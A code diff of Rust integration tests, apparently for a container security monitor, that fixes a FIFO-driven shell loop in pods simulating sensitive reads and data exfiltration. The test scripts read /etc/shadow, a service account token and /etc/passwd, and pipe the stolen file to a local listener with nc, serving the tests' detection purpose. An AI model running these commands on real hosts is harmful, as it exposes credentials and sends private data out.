@@ -93,7 +93,7 @@ async fn a_pods_own_shadow_and_service_account_token_are_sensitive_reads() -> an
     // container started: found by a later resolution.
     let script = format!(
         "mkdir -p /var /run{rest} && ln -s /run /var/run && echo tok > {TOKEN_DIR}/token \
-         && mkfifo /tmp/go && while read x < /tmp/go; do \
+         && mkfifo /tmp/go && while :; do read x < /tmp/go || continue; \
          cat /etc/shadow > /dev/null; cat {TOKEN_DIR}/token > /dev/null; done",
         rest = TOKEN_DIR.trim_start_matches("/var/run")
     );
@@ -226,8 +226,11 @@ async fn a_learned_pod_reading_its_passwd_then_connecting_out_is_data_exfiltrati
     let uid = pod_uid();
     let pod_name = unique_name("web");
     let pod = containerd.run_pod(&pod_name, "shop", &uid).await?;
+    // A poke's writer may still hold the FIFO when the next `read` opens
+    // it, then close without writing: that `read` sees end of file, which
+    // must not end the loop (it did, under load: the container exited).
     let script = format!(
-        "mkfifo /tmp/go && while read x < /tmp/go; do \
+        "mkfifo /tmp/go && while :; do read x < /tmp/go || continue; \
          if [ \"$x\" = steal ]; then cat /etc/passwd > /tmp/loot; nc 127.0.0.1 {port} < /tmp/loot; \
          else ls /tmp > /dev/null; fi; done"
     );
